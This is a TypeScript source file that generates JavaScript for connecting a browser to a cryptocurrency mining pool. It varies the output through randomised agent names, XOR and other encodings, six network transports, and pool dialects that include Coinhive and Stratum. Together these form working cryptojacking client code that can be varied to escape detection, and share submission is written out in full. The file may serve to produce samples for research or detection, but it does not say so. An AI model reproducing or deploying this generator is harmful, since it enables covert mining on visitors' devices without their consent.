import type { Random } from '../random.ts'
import { quoteSingle } from '../text/script.ts'
import type { Endpoint } from '../pool/endpoint.ts'

/**
 * Template of `$connect($onJob)`: opens the way to a pool and logs in; returns `$share(job, nonce, result)`.
 * A job is `{$id, $bytes, $target}`. `ownWork`: until the pool hands out a job, it works on one that it made itself.
 */
export function linkTemplate(endpoint: Endpoint, account: string, random: Random, ownWork = false): string {
  const agent = `${random.pick(['web', 'miner', 'node', 'client', 'wm', 'xm'])}/${random.int(0, 3)}.${random.int(0, 19)}.${random.int(0, 9)}`
  // Stratum for Bitcoin names the worker after the address: https://en.bitcoin.it/wiki/Stratum_mining_protocol.
  const login = endpoint.dialect === 'stratum-subscribe' ? `${account}.${random.pick(['web', 'rig1', 'w0', 'site'])}` : account
  return `
${hexTemplate}
${encodingTemplates[endpoint.encoding](endpoint)}
${transportTemplate(endpoint, random)}
${dialectTemplates[endpoint.dialect](quoteSingle(login), quoteSingle(agent))}
function $connect($onJob){
  var $way=null,$queue=[];
  function $send($value){if($way){$way($pack($value));}else{$queue.push($value);}}
  var $talk=$dialect($send,$onJob);
  ${ownWork ? ownJob(endpoint) : ''}
  $wire(function($post){$way=$post;$talk.$hello();$queue.splice(0).forEach($send);},function($m){var $v=$unpack($m);if($v!==null){$talk.$hear($v);}});
  return $talk.$share;
}`
}

const ownJob = (endpoint: Endpoint): string =>
  `setTimeout(function(){$onJob({$id:'0',$bytes:crypto.getRandomValues(new Uint8Array(${endpoint.dialect === 'stratum-subscribe' ? 80 : 76})),$target:65535});},0);`

const hexTemplate = `
function $unhex($text){var $to=new Uint8Array($text.length/2),$i;for($i=0;$i<$to.length;$i++){$to[$i]=parseInt($text.substr($i*2,2),16);}return $to;}
function $hex32($n){return ('0000000'+($n>>>0).toString(16)).slice(-8).match(new RegExp('..','g')).reverse().join('');}
function $limit($text){var $b=$unhex($text);return ($b[0]|$b[1]<<8|$b[2]<<16|$b[3]<<24)>>>0;}`

const encodingTemplates: Record<Endpoint['encoding'], (e: Endpoint) => string> = {
  json: () => `
function $pack($v){return JSON.stringify($v);}
function $unpack($m){try{return JSON.parse($m);}catch($e){return null;}}`,
  text: () => `
function $pack($v){return $v;}
function $unpack($m){return String($m).trim();}`,
  base64: () => `
function $pack($v){return btoa(JSON.stringify($v));}
function $unpack($m){try{return JSON.parse(atob($m));}catch($e){return null;}}`,
  xor: (e) => `
function $mask($b){var $i;for($i=0;$i<$b.length;$i++){$b[$i]^=${e.xorKey};}return $b;}
function $pack($v){return $mask(new TextEncoder().encode(JSON.stringify($v)));}
function $unpack($m){try{return JSON.parse(new TextDecoder().decode($mask(new Uint8Array($m))));}catch($e){return null;}}`,
  msgpack: () => `
function $pack($v){
  var $o=[];
  function $put($x){
    var $i,$k;
    if($x===null||$x===undefined){$o.push(192);}
    else if($x===false){$o.push(194);}
    else if($x===true){$o.push(195);}
    else if(typeof $x==='number'){if($x>=0&&$x<128){$o.push($x);}else{$o.push(206,$x>>>24,$x>>>16&255,$x>>>8&255,$x&255);}}
    else if(typeof $x==='string'){$k=new TextEncoder().encode($x);if($k.length<32){$o.push(160|$k.length);}else if($k.length<256){$o.push(217,$k.length);}else{$o.push(218,$k.length>>8,$k.length&255);}for($i=0;$i<$k.length;$i++){$o.push($k[$i]);}}
    else if(Array.isArray($x)){$o.push(144|$x.length);$x.forEach($put);}
    else{$k=Object.keys($x);$o.push(128|$k.length);$k.forEach(function($n){$put($n);$put($x[$n]);});}
  }
  $put($v);
  return new Uint8Array($o);
}
function $unpack($m){
  var $b=new Uint8Array($m),$p=0;
  function $text($n){$p+=$n;return new TextDecoder().decode($b.subarray($p-$n,$p));}
  function $many($n){var $l=[];while($n--){$l.push($take());}return $l;}
  function $pairs($n){var $l={},$k;while($n--){$k=$take();$l[$k]=$take();}return $l;}
  function $take(){
    var $t=$b[$p++];
    if($t<128){return $t;}
    if($t<144){return $pairs($t&15);}
    if($t<160){return $many($t&15);}
    if($t<192){return $text($t&31);}
    if($t===194){return false;}
    if($t===195){return true;}
    if($t===206){$p+=4;return ($b[$p-4]<<24|$b[$p-3]<<16|$b[$p-2]<<8|$b[$p-1])>>>0;}
    if($t===217){return $text($b[$p++]);}
    if($t===218){$p+=2;return $text($b[$p-2]<<8|$b[$p-1]);}
    return null;
  }
  return $take();
}`,
  binary: () => `
function $pack($v){return $v;}
function $unpack($m){return new Uint8Array($m);}`,
}

function transportTemplate(endpoint: Endpoint, random: Random): string {
  const url = quoteSingle(endpoint.url)
  const retry = random.int(3, 9) * 1000
  switch (endpoint.transport) {
    case 'websocket':
      return `
function $wire($up,$down){
  var $s=new WebSocket(${url});
  $s.binaryType='arraybuffer';
  $s.onopen=function(){$up(function($m){if($s.readyState===1){$s.send($m);}});};
  $s.onmessage=function($e){$down($e.data);};
  $s.onclose=function(){setTimeout(function(){$wire($up,$down);},${retry});};
}`
    case 'long-poll':
      return `
function $wire($up,$down){
  var $sid=Math.random().toString(36).slice(2);
  function $lines($t){$t.split('\\n').forEach(function($l){if($l){$down($l);}});}
  function $ask(){fetch(${url}+'?s='+$sid,{cache:'no-store'}).then(function($r){return $r.text();}).then(function($t){$lines($t);$ask();}).catch(function(){setTimeout($ask,${retry});});}
  $up(function($m){fetch(${url}+'?s='+$sid,{method:'POST',body:$m}).catch(function(){});});
  $ask();
}`
    case 'fetch-stream':
      return `
function $wire($up,$down){
  var $sid=Math.random().toString(36).slice(2),$rest='';
  $up(function($m){fetch(${url}+'?s='+$sid,{method:'POST',body:$m}).catch(function(){});});
  fetch(${url}+'?s='+$sid+'&stream=1',{cache:'no-store'}).then(function($r){
    var $reader=$r.body.getReader(),$text=new TextDecoder();
    (function $next(){$reader.read().then(function($c){if($c.done){return;}$rest+=$text.decode($c.value,{stream:true});var $l=$rest.split('\\n');$rest=$l.pop();$l.forEach(function($x){if($x){$down($x);}});$next();});})();
  }).catch(function(){setTimeout(function(){$wire($up,$down);},${retry});});
}`
    case 'eventsource':
      return `
function $wire($up,$down){
  var $sid=Math.random().toString(36).slice(2),$es=new EventSource(${url}+'?s='+$sid+'&events=1');
  $es.onmessage=function($e){$down($e.data);};
  $up(function($m){fetch(${url}+'?s='+$sid,{method:'POST',body:$m}).catch(function(){});});
}`
    case 'webtransport':
      return `
function $wire($up,$down){
  var $t=new WebTransport(${url});
  $t.closed.catch(function(){});
  $t.ready.then(function(){
    var $w=$t.datagrams.writable.getWriter(),$r=$t.datagrams.readable.getReader(),$text=new TextDecoder();
    $up(function($m){$w.write(new TextEncoder().encode($m));});
    (function $next(){$r.read().then(function($c){if($c.done){return;}$down($text.decode($c.value));$next();});})();
  }).catch(function(){setTimeout(function(){$wire($up,$down);},${retry});});
}`
    case 'webrtc':
      // The pool's answer is known beforehand, as in libp2p's WebRTC Direct (https://github.com/libp2p/specs/blob/master/webrtc/webrtc-direct.md).
      return `
function $wire($up,$down){
  var $c=new RTCPeerConnection({'iceServers':[{'urls':${quoteSingle(`stun:${endpoint.host}:3478`)}}]}),$ch=$c.createDataChannel(${quoteSingle(random.hex(4))});
  $ch.onopen=function(){$up(function($m){$ch.send($m);});};
  $ch.onmessage=function($e){$down($e.data);};
  $c.createOffer().then(function($o){return $c.setLocalDescription($o);}).then(function(){return $c.setRemoteDescription({'type':'answer','sdp':${quoteSingle(sessionDescription(random))}});}).catch(function(){});
}`
  }
}

/** RFC 8829 with a data channel of RFC 8841; the address is of the range for documentation. */
function sessionDescription(random: Random): string {
  const fingerprint = (random.hex(64).toUpperCase().match(/../g) ?? []).join(':')
  const lines = [
    'v=0',
    `o=- ${random.int(1e8, 9e8)} 2 IN IP4 127.0.0.1`,
    's=-',
    't=0 0',
    'a=group:BUNDLE 0',
    'a=ice-lite',
    'm=application 9 UDP/DTLS/SCTP webrtc-datachannel',
    'c=IN IP4 0.0.0.0',
    `a=candidate:1 1 udp 2130706431 198.51.100.${random.int(1, 254)} 3478 typ host`,
    `a=ice-ufrag:${random.alphanumeric(8)}`,
    `a=ice-pwd:${random.alphanumeric(24)}`,
    `a=fingerprint:sha-256 ${fingerprint}`,
    'a=setup:passive',
    'a=mid:0',
    'a=sctp-port:5000',
  ]
  return `${lines.join('\n')}\n`
}

const dialectTemplates: Record<Endpoint['dialect'], (account: string, agent: string) => string> = {
  'stratum-login': (account, agent) => `
function $dialect($send,$onJob){
  var $session='',$n=1;
  function $take($j){$onJob({$id:$j['job_id'],$bytes:$unhex($j['blob']),$target:$limit($j['target'])});}
  return {
    $hello:function(){$send({'id':$n++,'jsonrpc':'2.0','method':'login','params':{'login':${account},'pass':'x','agent':${agent}}});},
    $hear:function($m){
      if($m['result']&&$m['result']['job']){$session=$m['result']['id'];$take($m['result']['job']);}
      else if($m['method']==='job'){$take($m['params']);}
    },
    $share:function($id,$nonce,$result){$send({'id':$n++,'jsonrpc':'2.0','method':'submit','params':{'id':$session,'job_id':$id,'nonce':$hex32($nonce),'result':$result}});}
  };
}`,
  'stratum-subscribe': (account, agent) => `
function $dialect($send,$onJob){
  var $n=3,$target=4294967295,$time='00000000';
  return {
    $hello:function(){$send({'id':1,'method':'mining.subscribe','params':[${agent}]});$send({'id':2,'method':'mining.authorize','params':[${account},'x']});},
    $hear:function($m){
      var $p=$m['params'];
      if($m['method']==='mining.set_difficulty'){$target=Math.min(4294967295,Math.floor(65536/$p[0]));}
      else if($m['method']==='mining.notify'){$time=$p[7];$onJob({$id:$p[0],$bytes:$unhex($p[5]+$p[1]+($p[2]+$p[3]).slice(0,64)+$p[7]+$p[6]+'00000000'),$target:$target});}
    },
    $share:function($id,$nonce){$send({'id':$n++,'method':'mining.submit','params':[${account},$id,'00000000',$time,$hex32($nonce)]});}
  };
}`,
  coinhive: (account) => `
function $dialect($send,$onJob){
  return {
    $hello:function(){$send({'type':'auth','params':{'version':7,'site_key':${account},'type':'anonymous','user':null,'goal':0}});},
    $hear:function($m){var $p=$m['params'];if($m['type']==='job'){$onJob({$id:$p['job_id'],$bytes:$unhex($p['blob']),$target:$limit($p['target'])});}},
    $share:function($id,$nonce,$result){$send({'type':'submit','params':{'version':7,'job_id':$id,'nonce':$hex32($nonce),'result':$result}});}
  };
}`,
  identifier: (account) => `
function $dialect($send,$onJob){
  return {
    $hello:function(){$send({'identifier':'handshake','login':${account},'password':'x','userid':'','version':7,'intent':'mine'});},
    $hear:function($m){if($m['identifier']==='job'){$onJob({$id:$m['job_id'],$bytes:$unhex($m['blob']),$target:$limit($m['target'])});}},
    $share:function($id,$nonce,$result){$send({'identifier':'solved','job_id':$id,'nonce':$hex32($nonce),'result':$result});}
  };
}`,
  command: (account) => `
function $dialect($send,$onJob){
  return {
    $hello:function(){$send({'command':'auth','key':${account},'version':2});},
    $hear:function($m){if($m['command']==='job'){$onJob({$id:$m['job_id'],$bytes:$unhex($m['blob']),$target:$limit($m['target'])});}},
    $share:function($id,$nonce,$result){$send({'command':'submit','job_id':$id,'nonce':$hex32($nonce),'result':$result});}
  };
}`,
  duino: (account, agent) => `
function $dialect($send,$onJob){
  var $since=0;
  function $ask(){$since=Date.now();$send('JOB,'+${account}+',LOW,None');}
  return {
    $hello:$ask,
    $hear:function($m){
      var $p=$m.split(',');
      if($p.length>2&&$p[0].length===40){$onJob({$id:$p[0],$bytes:new TextEncoder().encode($p[0]),$target:$limit($p[1].slice(0,8))});}
      else if($p[0]==='GOOD'||$p[0]==='BAD'||$p[0]==='BLOCK'){$ask();}
    },
    $share:function($id,$nonce){$send($nonce+','+Math.round($nonce/(Date.now()-$since+1)*1000)+','+${agent}+','+'web');}
  };
}`,
  binary: (account) => `
function $dialect($send,$onJob){
  function $u32($b,$at){return ($b[$at]|$b[$at+1]<<8|$b[$at+2]<<16|$b[$at+3]<<24)>>>0;}
  function $le($n){return [$n&255,$n>>>8&255,$n>>>16&255,$n>>>24];}
  return {
    $hello:function(){var $a=new TextEncoder().encode(${account});$send(new Uint8Array([1,$a.length].concat(Array.from($a))));},
    $hear:function($b){if($b[0]===2){$onJob({$id:$u32($b,1),$bytes:$b.slice(9),$target:$u32($b,5)});}},
    $share:function($id,$nonce,$result){$send(new Uint8Array([3].concat($le($id),$le($nonce),Array.from($unhex($result)))));}
  };
}`,
}
